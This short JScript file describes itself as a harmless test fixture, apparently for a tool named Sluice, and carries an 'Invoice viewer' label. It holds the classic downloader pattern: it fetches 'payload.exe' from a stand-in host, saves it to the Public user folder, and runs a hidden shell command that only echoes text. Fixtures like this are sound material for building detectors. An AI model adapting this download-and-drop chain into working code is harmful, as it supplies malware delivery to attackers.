// Invoice viewer (Sluice test fixture - harmless, never run)
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://example.invalid/payload.exe", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Open(); s.Type = 1; s.Write(x.ResponseBody);
s.SaveToFile("C:\\Users\\Public\\payload.exe", 2);
var sh = WScript.CreateObject("WScript.Shell");
sh.Run("cmd /c echo hello", 0);
